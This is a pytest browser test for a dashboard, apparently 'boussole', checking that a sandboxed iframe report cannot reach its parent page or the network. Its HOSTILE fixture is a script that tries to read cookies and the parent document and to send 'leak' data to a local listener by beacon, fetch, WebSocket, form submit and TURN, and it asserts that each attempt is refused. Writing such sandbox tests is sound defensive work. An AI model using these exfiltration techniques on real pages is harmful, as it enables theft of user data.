"""A report that others made runs its scripts, and reaches neither the page around it nor anything else."""

from __future__ import annotations

import contextlib
import datetime as dt
import json
import socket
from typing import Any

import pandas as pd
import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By

from boussole.audits.decisions import ingest
from boussole.audits.drift import stored
from boussole.audits.drift.evidently_report import FIRST, script_hashes
from boussole.audits.drift.pairs import exact_pair
from boussole.audits.systems import load_system
from boussole.audits.windows import Window
from boussole.audits.workspace import Workspace
from boussole.dashboard.pages.drift.evidently_report import make
from tests.dashboard.browsing import KNOCKED, fits, listening, narrow, served, text, violations, waiting, whole
from tests.written import system_text

SYSTEM = """
columns: {id: ref, decided_at: day, decision: {column: taken, selected: [true], not_selected: [false]}}
features: [distance]
windows: {audit: month, reference: "2026-01-01/2026-01-31"}
"""
PAIR = (Window(dt.date(2026, 2, 1), dt.date(2026, 2, 28)), Window(dt.date(2026, 1, 1), dt.date(2026, 1, 31)))
HOSTILE = """<!DOCTYPE html><head></head><body><p id=x></p><script>
const found = {ran: true}, elsewhere = "http://127.0.0.1:PORT/", late = [];
const tried = (name, does) => { try { found[name] = String(does()); } catch (error) { found[name] = error.name; } };
const asked = (name, promise) => late.push(promise.then(() => found[name] = "reached", () => found[name] = "refused"));
const loads = (name, kind, give) => late.push(new Promise(done => {
  const part = document.createElement(kind);
  part.onload = () => { found[name] = kind === "iframe" ? "framed" : "reached"; done(); };
  part.onerror = () => { found[name] = "refused"; done(); };
  give(part); document.body.append(part); setTimeout(done, 1500);
}));
tried("origin", () => self.origin);
tried("cookie", () => document.cookie);
tried("storage", () => localStorage.length);
tried("parent", () => parent.document.title);
tried("top", () => top.document.body.textContent);
tried("parent_address", () => parent.location.href);
tried("opened", () => window.open(elsewhere + "opened"));
tried("beacon", () => navigator.sendBeacon(elsewhere + "beacon", "leak"));
tried("line", () => {
  const line = new RTCPeerConnection({iceServers: [
    {urls: "turn:127.0.0.1:PORT?transport=tcp", username: "leak", credential: "leak"}
  ]});
  line.createDataChannel("x");
  line.createOffer().then(offer => line.setLocalDescription(offer));
  return "reached";
});
tried("up", () => { top.location.href = elsewhere + "up"; return "gone"; });
asked("fetch", fetch(elsewhere + "fetch", {mode: "no-cors"}));
asked("own", fetch("/healthz"));
loads("image", "img", part => part.src = elsewhere + "image");
loads("script", "script", part => part.src = elsewhere + "script");
loads("frame", "iframe", part => part.src = elsewhere + "frame");
late.push(new Promise(done => {
  try {
    const line = new WebSocket(elsewhere.replace("http", "ws") + "socket");
    line.onopen = () => { found.socket = "reached"; done(); };
    line.onerror = () => { found.socket = "refused"; done(); };
  } catch (error) { found.socket = error.name; done(); }
}));
const form = Object.assign(document.createElement("form"), {action: elsewhere + "form"});
document.body.append(form); form.submit();
Promise.all(late).then(() => { document.getElementById("x").textContent = JSON.stringify(found); });
if (location.hash || "GO" === "yes") setTimeout(() => { location.href = elsewhere + "self"; }, 200);
</script></body>"""


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    made = Workspace.create(tmp_path_factory.mktemp("hostile") / "workspace")
    file = made.home / "systems" / "jobs.yaml"
    file.write_text(system_text("jobs", SYSTEM), encoding="utf-8")
    days = pd.date_range("2026-01-01", "2026-02-28")
    log = pd.DataFrame({"day": days.repeat(20)})
    log["ref"], log["taken"], log["distance"] = range(len(log)), log.index % 3 == 0, log.index % 7
    path = made.home / "log.parquet"
    log.astype({"ref": str}).to_parquet(path)
    ingest(made, load_system(file), path)
    return made


@pytest.mark.slow
def test_a_hostile_report_reaches_nothing(chrome: webdriver.Chrome, workspace: Workspace) -> None:
    place = stored.place_of(workspace, "jobs", *PAIR)
    with listening() as (port, heard), contextlib.contextmanager(served)(workspace.home) as start:
        put(place, port)
        chrome.get(f"{start}/drift?system=jobs&lang=en")
        whole(chrome)
        chrome.add_cookie({"name": "secret", "value": "of the app"})
        assert chrome.find_elements(By.CSS_SELECTOR, "iframe") == []
        opened(chrome)
        told = answer(chrome)
        by_itself = f"{start}/drift-report/jobs/{place.name}"
        chrome.get(f"{by_itself}/page")
        assert chrome.current_url == by_itself
        chrome.switch_to.frame(0)
        for found in (told, answer(chrome)):
            assert found.pop("ran") is True
            assert (found.pop("origin"), found.pop("opened")) == ("null", "null")
            assert found.pop("beacon") in ("false", "true")  # said before it is sent: what counts is what is heard
            assert found.pop("frame", "refused") in ("framed", "refused")  # an error page is a page too
            assert found.pop("line") == "ReferenceError"
            assert set(found.values()) <= {"SecurityError", "refused"}, found
        # The script that leads its own frame elsewhere stays where it is.
        put(place, port, go="yes")
        for address in (f"{start}/drift?system=jobs&lang=en", by_itself):
            chrome.get(address)
            if address == by_itself:
                waiting(chrome).until(lambda b: b.find_elements(By.CSS_SELECTOR, "iframe"))
            else:
                whole(chrome)
                opened(chrome)
            waiting(chrome).until(left)
            assert chrome.current_url == address
        added = "<script>document.getElementById('x').textContent = 'added'</script>"
        place.html.write_text(f"<p id=x>as it was</p>{added}", encoding="utf-8")
        chrome.get(by_itself)
        chrome.switch_to.frame(0)
        assert text(chrome, "#x") == "as it was"  # a script that came after the report was made does not run
        # A browser knocks before it knows that it may not enter; nobody has said a word.
        assert set(heard) <= {b"", KNOCKED}
        with socket.create_connection(("127.0.0.1", port)) as line:
            line.sendall(b"here")
        waiting(chrome).until(lambda _: heard[-1:] == [b"here"])  # it does hear who comes


def put(place: stored.StoredReport, port: int, *, go: str = "no") -> None:
    """The report, as if it had been made like this."""
    page = HOSTILE.replace("PORT", str(port)).replace('"GO"', f'"{go}"')
    page = page.replace("<head>", f"<head><script>{FIRST}</script>")
    stored.write(place, html=page, document=json.dumps({"scripts": script_hashes(page)}))


def opened(browser: webdriver.Chrome) -> None:
    browser.find_element(By.CSS_SELECTOR, "details.framed summary").click()
    frame = waiting(browser).until(lambda b: b.find_element(By.CSS_SELECTOR, "details.framed iframe"))
    assert frame.get_attribute("sandbox") == "allow-scripts"
    assert frame.get_attribute("loading") == "lazy"


def left(browser: webdriver.Chrome) -> bool:
    """Whether what was in the frame is gone, for the browser's own page that says why."""
    browser.switch_to.default_content()
    browser.switch_to.frame(browser.find_element(By.CSS_SELECTOR, "iframe"))
    gone = not browser.find_elements(By.ID, "x")
    browser.switch_to.default_content()
    return gone


def answer(browser: webdriver.Chrome) -> dict[str, Any]:
    """What the script of the report says that it reached."""
    if not browser.find_elements(By.ID, "x"):
        browser.switch_to.frame(browser.find_element(By.CSS_SELECTOR, "iframe"))
    waiting(browser).until(lambda b: text(b, "#x"))
    found: dict[str, Any] = json.loads(text(browser, "#x"))
    browser.switch_to.default_content()
    return found


@pytest.mark.slow
def test_the_report_of_evidently_draws_its_pictures_and_shuts_nobody_out(
    chrome: webdriver.Chrome, workspace: Workspace
) -> None:
    pair = exact_pair(workspace, workspace.system("jobs"), window=PAIR[0])
    stored.forget(workspace, "jobs")
    with contextlib.contextmanager(served)(workspace.home) as start:
        made = make(workspace, pair, size=500)
        chrome.get(f"{start}/drift?system=jobs&lang=fr")
        whole(chrome)
        chrome.get_log("browser")  # what was said before is not about the report
        opened(chrome)
        chrome.switch_to.frame(chrome.find_element(By.CSS_SELECTOR, "details.framed iframe"))
        waiting(chrome).until(lambda b: "Drift is" in text(b, "body"))
        waiting(chrome).until(lambda b: len(b.find_elements(By.CSS_SELECTOR, "canvas")) == 4)
        assert "février 2026" in text(chrome, "header.boussole")
        chrome.switch_to.default_content()
        said = [entry["message"] for entry in chrome.get_log("browser")]
        assert [each for each in said if "Content Security Policy" in each] == []
        assert violations(chrome) == []
        with narrow(chrome):
            fits(chrome)
        assert made.place.html.is_file()
